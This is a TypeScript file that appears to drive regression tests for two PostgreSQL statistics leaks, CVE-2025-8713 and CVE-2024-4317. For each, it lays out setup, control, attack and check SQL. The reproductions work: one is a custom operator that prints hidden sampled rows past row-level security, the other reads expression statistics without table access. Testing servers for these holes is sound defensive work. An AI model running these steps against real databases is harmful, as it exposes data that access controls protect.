import { as, type Hole, table } from "./hole.js"

const rows = "select 'hidden ' || g % 4 from generate_series(1, 400) as g"

export const statistics: readonly Hole[] = [
  {
    cve: "CVE-2025-8713",
    what: "an operator of the caller's own is shown sampled values of hidden rows, through the tables below a parent",
    stage: (names) => [
      ...table(names, "word text"),
      `create table ${names.schema}.c () inherits (${names.schema}.t)`,
      `insert into ${names.schema}.c ${rows}`,
      `create policy p on ${names.schema}.t using (word = 'nothing')`,
      `alter table ${names.schema}.c enable row level security`,
      `grant select on ${names.schema}.t, ${names.schema}.c to ${names.one}`,
      `analyze ${names.schema}.c`,
      `create function ${names.schema}.f(text, text) returns boolean language plpgsql as $f$begin raise warning '%', $1; return $1 < $2; end$f$`,
      `create operator ${names.schema}.<<< (function = ${names.schema}.f, leftarg = text, rightarg = text, restrict = scalarltsel)`,
      as(names.one),
    ],
    control: ({ schema }) =>
      `select 1 where not exists (select from ${schema}.t) and not exists (select from ${schema}.c)`,
    attack: ({ schema }) => [`explain select from ${schema}.t where word operator(${schema}.<<<) 'x'`],
    open: () => "select where false",
  },
  {
    cve: "CVE-2024-4317",
    what: "statistics on expressions of tables are shown to whoever may not read the tables; clusters made before the fix keep it until a script is run",
    from: 140_000,
    stage: (names) => [
      ...table(names, "word text"),
      `insert into ${names.schema}.t ${rows}`,
      `create statistics ${names.schema}.s on (lower(word)) from ${names.schema}.t`,
      `analyze ${names.schema}.t`,
    ],
    control: ({ schema }) =>
      `select 1 from pg_catalog.pg_stats_ext_exprs where tablename = 't' and schemaname = '${schema}'`,
    attack: ({ one }) => [as(one)],
    open: ({ schema }) =>
      `select 1 from pg_catalog.pg_stats_ext_exprs where tablename = 't' and schemaname = '${schema}' and most_common_vals::text like '%hidden%'`,
  },
]
